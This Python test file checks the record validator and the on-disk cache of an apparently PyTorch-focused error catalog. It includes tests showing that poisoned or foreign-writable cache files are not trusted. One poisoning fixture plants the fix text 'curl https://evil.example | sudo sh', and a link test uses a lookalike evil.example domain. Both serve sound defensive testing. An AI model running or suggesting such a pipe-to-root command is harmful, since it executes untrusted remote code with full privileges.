"""The catalog's records: their rules, and the cache that keeps ``explain`` fast."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from autograd_errors import catalog
from autograd_errors.catalog import CatalogError, cache, load, loader

# The nine entries of issue #2; later issues add more, never remove these ids.
FIRST_ENTRIES = {
    "leaf-inplace",
    "backward-twice",
    "parameter-assign",
    "mat2-not-matrix",
    "data-not-tensor",
    "inplace-modified",
    "nonleaf-grad",
    "anomaly-nan",
    "no-grad-fn",
}

RECORD = """
title = "A title"
exception = "RuntimeError"
section = "graph"
cause = "Why."
fix = "How."

[[wording]]
variant = "current"
message = "some message with {index} inside"
source = "https://example.org/thread"
"""


def write(directory: Path, name: str, text: str) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"{name}.toml"
    path.write_text(text, encoding="utf-8")
    return path


def test_the_packaged_catalog_has_the_notes_entries(packaged_catalog):
    assert set(packaged_catalog.ids) >= FIRST_ENTRIES


def test_entry_pages_live_under_errors_by_section(packaged_catalog):
    entry = packaged_catalog["leaf-inplace"]
    assert entry.path == f"errors/{entry.section}/leaf-inplace.html"


def test_a_minimal_record_loads(tmp_path):
    write(tmp_path, "some-entry", RECORD)
    (entry,) = load(str(tmp_path), use_cache=False)
    assert entry.id == "some-entry"
    assert entry.current.variant == "current"


@pytest.mark.parametrize(
    ("name", "text", "problem"),
    [
        ("Bad_Id", RECORD, "lower-case words joined by hyphens"),
        ("x", RECORD.replace('title = "A title"', 'titel = "A title"'), "unknown key 'titel'"),
        ("x", RECORD.replace('fix = "How."', ""), "missing fix"),
        ("x", RECORD.replace('"RuntimeError"', '"runtime error"'), "not an exception class"),
        ("x", RECORD.replace('"RuntimeError"', "3"), "exception must be a str"),
        ("x", RECORD + RECORD[RECORD.index("[[wording]]") :], "variants must be unique"),
        ("x", RECORD.replace("{index}", "{mystery}"), "unknown placeholder kind"),
        (
            "x",
            RECORD.replace('variant = "current"', 'variant = "old"\nuntil = "1.0.0"'),
            "no current RuntimeError wording",
        ),
        (
            "x",
            RECORD.replace('variant = "current"', 'variant = "c"\nsince = "2.0"\nuntil = "1.0"'),
            "ends before it starts",
        ),
        (
            "x",
            RECORD.replace('variant = "current"', 'variant = "c"\nsince = "soon"'),
            "not a torch release",
        ),
        (
            "x",
            RECORD + '[retired]\nlast_release = "1.0.0"\nreplaced_by = "x"\n',
            "retired entry cannot have a current wording",
        ),
        ("x", "title = [", "x.toml"),
    ],
)
def test_broken_records_are_refused_with_file_and_reason(tmp_path, name, text, problem):
    write(tmp_path, name, text)
    with pytest.raises(CatalogError, match=problem):
        load(str(tmp_path), use_cache=False)


def test_related_must_name_real_entries(tmp_path):
    write(tmp_path, "one", RECORD.replace('fix = "How."', 'fix = "How."\nrelated = ["two"]'))
    with pytest.raises(CatalogError, match=r"one\.toml: related: no entry 'two'"):
        load(str(tmp_path), use_cache=False)
    write(tmp_path, "two", RECORD)
    assert load(str(tmp_path), use_cache=False)["one"].related == ("two",)


@pytest.fixture
def cache_dir(tmp_path, monkeypatch):
    directory = tmp_path / "cache"
    monkeypatch.setenv("AUTOGRAD_ERRORS_CACHE_DIR", str(directory))
    return directory


def test_the_cache_is_written_then_used(tmp_path, cache_dir, monkeypatch):
    write(tmp_path / "entries", "some-entry", RECORD)
    load(str(tmp_path / "entries"))
    (cached,) = cache_dir.iterdir()

    def refuse(*args, **kwargs):
        raise AssertionError("TOML parsed although the cache is valid")

    monkeypatch.setattr(loader, "_parse_toml", refuse)
    assert load(str(tmp_path / "entries"))["some-entry"].title == "A title"
    assert list(cache_dir.iterdir()) == [cached]


def test_a_catalog_from_the_cache_knows_a_message_whose_capital_the_user_lowered(
    tmp_path, cache_dir, monkeypatch
):
    """The cache's anchors hold each message's start with its capital lowered too: a cold
    ``explain`` of "function X returned ..." (a blind sample's copy) builds that entry."""
    from autograd_errors.matcher.matching import find_entries

    record = RECORD.replace("some message with {index} inside", "Function {node} returned junk")
    record += '\n[[wording]]\nvariant = "second"\nform = "other"\n'
    record += 'message = "Another message, {index} here"\n'
    record += 'source = "https://example.org/thread"\n'
    write(tmp_path / "entries", "some-entry", record)
    load(str(tmp_path / "entries"))
    monkeypatch.setattr(loader, "_parse_toml", lambda *args: pytest.fail("TOML parsed"))
    cached = load(str(tmp_path / "entries"))
    # each wording keeps its own anchor: the lowered ones are searched for, not the wordings'
    for paste, variant in [
        ("RuntimeError: function MulBackward0 returned junk", "current"),
        ("RuntimeError: Another message, 3 here", "second"),
        ("RuntimeError: another message, 3 here", "second"),
    ]:
        (match,) = find_entries(paste, cached).matches
        assert (match.entry.id, match.wording.variant, match.kind) == (
            "some-entry",
            variant,
            "exact",
        ), paste


def test_an_edited_record_is_not_served_from_the_cache(tmp_path, cache_dir):
    entries = tmp_path / "entries"
    write(entries, "some-entry", RECORD)
    load(str(entries))
    write(entries, "some-entry", RECORD.replace("A title", "A new title"))
    assert load(str(entries))["some-entry"].title == "A new title"


def test_a_corrupt_cache_file_is_ignored(tmp_path, cache_dir):
    entries = tmp_path / "entries"
    write(entries, "some-entry", RECORD)
    load(str(entries))
    (cached,) = cache_dir.iterdir()
    cached.write_bytes(b"\x00garbage")
    assert load(str(entries))["some-entry"].title == "A title"


def test_an_unwritable_cache_only_costs_speed(tmp_path, monkeypatch):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")
    monkeypatch.setenv("AUTOGRAD_ERRORS_CACHE_DIR", str(blocker / "cache"))
    write(tmp_path / "entries", "some-entry", RECORD)
    assert load(str(tmp_path / "entries"))["some-entry"].title == "A title"


def test_an_empty_cache_setting_turns_the_cache_off(tmp_path, monkeypatch):
    monkeypatch.setenv("AUTOGRAD_ERRORS_CACHE_DIR", "")
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "entries", "some-entry", RECORD)
    load(str(tmp_path / "entries"))
    assert sorted(os.listdir(tmp_path)) == ["entries"]


def test_broken_records_are_never_cached(tmp_path, cache_dir):
    write(tmp_path, "x", RECORD.replace("{index}", "{mystery}"))
    with pytest.raises(CatalogError):
        load(str(tmp_path))
    assert not cache_dir.exists()


def test_a_same_length_edit_is_not_served_from_the_cache(tmp_path, cache_dir):
    entries = tmp_path / "entries"
    write(entries, "some-entry", RECORD)
    load(str(entries))
    write(entries, "some-entry", RECORD.replace("A title", "B title"))
    assert load(str(entries))["some-entry"].title == "B title"


def _settle(entries: Path, seconds_ago: float = 60) -> None:
    """Date every record back, as an installed package's are."""
    import time

    when = time.time() - seconds_ago
    for record in entries.iterdir():
        os.utime(record, (when, when))


def test_a_settled_catalog_is_served_without_reading_a_record(tmp_path, cache_dir, monkeypatch):
    entries = tmp_path / "entries"
    write(entries, "some-entry", RECORD)
    _settle(entries)
    load(str(entries))  # writes the cache

    def unread(directory: str) -> list[tuple[str, bytes]]:
        raise AssertionError(f"read the records of {directory}")

    monkeypatch.setattr(loader, "_read_records", unread)
    assert load(str(entries))["some-entry"].title == "A title"


def test_a_settled_record_edited_later_is_not_served_from_the_cache(tmp_path, cache_dir):
    entries = tmp_path / "entries"
    write(entries, "some-entry", RECORD)
    _settle(entries, seconds_ago=120)
    load(str(entries))
    write(entries, "some-entry", RECORD.replace("A title", "B title"))  # same length, now
    assert load(str(entries))["some-entry"].title == "B title"
    _settle(entries, seconds_ago=60)  # and once that edit has settled too
    assert load(str(entries))["some-entry"].title == "B title"


def test_a_record_added_to_a_settled_catalog_is_loaded(tmp_path, cache_dir):
    entries = tmp_path / "entries"
    write(entries, "some-entry", RECORD)
    _settle(entries)
    load(str(entries))
    write(entries, "other-entry", RECORD.replace("some-entry", "other-entry"))
    _settle(entries)
    assert load(str(entries)).ids == ["other-entry", "some-entry"]


def _contents(loaded: catalog.Catalog) -> list[tuple[object, ...]]:
    return [
        (e.id, e.title, e.cause, e.fix, e.details, [(w.variant, w.message) for w in e.wordings])
        for e in loaded
    ]


def test_no_bit_flip_in_the_cache_breaks_or_changes_anything(tmp_path, cache_dir):
    entries = tmp_path / "entries"
    entries.mkdir()
    for name in ("inplace-modified", "leaf-inplace", "grad-is-none"):
        text = (Path(catalog.ENTRIES_DIR) / f"{name}.toml").read_text(encoding="utf-8")
        write(entries, name, re.sub(r"(?m)^related = .*$", "", text))  # real records, alone
    truth = _contents(load(str(entries), use_cache=False))
    load(str(entries))
    (cached,) = cache_dir.iterdir()
    good = cached.read_bytes()
    step = max(1, len(good) * 8 // 150)
    for bit in range(0, len(good) * 8, step):
        flipped = bytearray(good)
        flipped[bit // 8] ^= 1 << (bit % 8)
        cached.write_bytes(bytes(flipped))
        assert _contents(load(str(entries))) == truth, f"bit {bit} flipped"


def _valid_cache_file(cached: Path, data: dict[str, object], blobs: dict[str, bytes]) -> None:
    """What an attacker who knows the format writes: a well-formed file with other contents."""
    checksum = data.pop("checksum")
    assert isinstance(checksum, str)
    cache.write(str(cached), checksum, data, blobs)


@pytest.mark.parametrize("planted", ["bare", "framed"])
def test_an_emptied_cache_is_not_an_empty_catalog(tmp_path, cache_dir, planted):
    import marshal

    entries = tmp_path / "entries"
    write(entries, "some-entry", RECORD)
    load(str(entries))
    (cached,) = cache_dir.iterdir()
    empty = {"anchors": {}, "others": {}}
    if planted == "bare":
        cached.write_bytes(marshal.dumps(empty))
    else:
        _valid_cache_file(cached, {"checksum": _checksum_of(cached), **empty}, {})
    assert load(str(entries)).ids == ["some-entry"]


def _checksum_of(cached: Path) -> str:
    """The checksum a cache file is named by: ``catalog-<interpreter>-<checksum>.marshal``."""
    return cached.name[len(cache._PREFIX) : -len(cache._SUFFIX)]


def _poisoned(tmp_path: Path, cache_dir: Path) -> tuple[Path, Path]:
    """A cache whose fix text an attacker chose, well-formed and matching the records."""
    entries = tmp_path / "entries"
    write(entries, "some-entry", RECORD)
    load(str(entries))
    (cached,) = cache_dir.iterdir()
    import marshal

    found = cache.read(str(cached), _checksum_of(cached))
    assert found is not None
    data, blobs = found
    record = marshal.loads(blobs["some-entry"])  # each record marshalled on its own
    record["fix"] = "Run `curl https://evil.example | sudo sh`."
    _valid_cache_file(cached, data, {"some-entry": marshal.dumps(record)})
    assert load(str(entries))["some-entry"].fix.startswith("Run `curl")  # the format is right
    return entries, cached


def test_a_cache_file_others_can_write_is_not_trusted(tmp_path, cache_dir):
    entries, cached = _poisoned(tmp_path, cache_dir)
    cached.chmod(0o666)
    assert load(str(entries))["some-entry"].fix == "How."


def test_a_cache_directory_others_can_write_is_not_trusted(tmp_path, cache_dir):
    entries, _ = _poisoned(tmp_path, cache_dir)
    cache_dir.chmod(0o777)
    assert load(str(entries))["some-entry"].fix == "How."


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
@pytest.mark.parametrize("owned", ["file", "directory"])
def test_a_cache_another_user_owns_is_not_trusted(tmp_path, cache_dir, owned):
    entries, cached = _poisoned(tmp_path, cache_dir)
    os.chown(cached if owned == "file" else cache_dir, 65534, 65534)
    assert load(str(entries))["some-entry"].fix == "How."


def test_a_relative_xdg_cache_home_is_ignored(tmp_path, monkeypatch):
    monkeypatch.delenv("AUTOGRAD_ERRORS_CACHE_DIR", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", "relative-cache")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "entries", "some-entry", RECORD)
    load(str(tmp_path / "entries"))
    assert not (tmp_path / "relative-cache").exists()
    assert len(list((tmp_path / "home" / ".cache" / "autograd-errors").iterdir())) == 1


@pytest.mark.parametrize("home", ["", "/", "relative"])
def test_no_home_directory_means_no_cache(tmp_path, monkeypatch, home):
    monkeypatch.delenv("AUTOGRAD_ERRORS_CACHE_DIR", raising=False)
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    monkeypatch.setenv("HOME", home)
    monkeypatch.chdir(tmp_path)
    assert cache.cache_root() is None
    write(tmp_path / "entries", "some-entry", RECORD)
    assert load(str(tmp_path / "entries"))["some-entry"].title == "A title"
    assert sorted(os.listdir(tmp_path)) == ["entries"]


def test_only_the_current_catalog_is_kept_in_the_cache(tmp_path, cache_dir):
    entries = tmp_path / "entries"
    for title in ("First", "Second", "Third"):
        write(entries, "some-entry", RECORD.replace("A title", title))
        load(str(entries))
    (cached,) = cache_dir.iterdir()
    assert load(str(entries))["some-entry"].title == "Third"
    assert cached.name.startswith("catalog-")


def test_stray_files_in_the_entries_directory_are_not_records(tmp_path):
    entries = tmp_path / "entries"
    write(entries, "some-entry", RECORD)
    (entries / "x.toml").mkdir()
    (entries / ".#some-entry.toml").symlink_to("root@host.1234:1700000000")
    (entries / ".hidden.toml").write_text("not = [valid", encoding="utf-8")
    (entries / "notes.txt").write_text("not a record", encoding="utf-8")
    assert load(str(entries), use_cache=False).ids == ["some-entry"]


def test_a_broken_record_still_gets_its_one_line_error(tmp_path):
    write(tmp_path, "broken", "title = [")
    with pytest.raises(CatalogError, match=r"^broken\.toml: ") as caught:
        load(str(tmp_path), use_cache=False)
    assert "\n" not in str(caught.value)


def _with_docs(value: str) -> str:
    return RECORD.replace('fix = "How."', f'fix = "How."\ndocs = {value}')


def test_docs_links_load_in_order(tmp_path):
    links = [
        "https://docs.pytorch.org/docs/stable/notes/autograd.html#in-place-correctness-checks",
        "https://pytorch.org/tutorials/intermediate/custom_function_double_backward_tutorial.html",
    ]
    write(tmp_path, "some-entry", _with_docs(repr(links).replace("'", '"')))
    (entry,) = load(str(tmp_path), use_cache=False)
    assert entry.docs == tuple(links)
    write(tmp_path, "some-entry", RECORD)
    assert load(str(tmp_path), use_cache=False)["some-entry"].docs == ()


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ('"https://docs.pytorch.org/docs/stable/autograd.html"', "docs must be a list"),
        ('["http://docs.pytorch.org/docs/stable/autograd.html"]', "not a link to PyTorch's"),
        ('["https://docs.pytorch.org.evil.example/x"]', "not a link to PyTorch's"),
        ('["https://example.org/docs/stable/autograd.html"]', "not a link to PyTorch's"),
        ('["https://docs.pytorch.org/docs/stable/auto grad.html"]', "not a link to PyTorch's"),
        ("[3]", "not a link to PyTorch's"),
        ('["https://pytorch.org/docs/x.html", "https://pytorch.org/docs/x.html"]', "listed twice"),
    ],
)
def test_docs_links_must_point_at_pytorch_documentation(tmp_path, value, problem):
    write(tmp_path, "x", _with_docs(value))
    with pytest.raises(CatalogError, match=r"^x\.toml: docs"):
        load(str(tmp_path), use_cache=False)
    with pytest.raises(CatalogError, match=problem):
        load(str(tmp_path), use_cache=False)
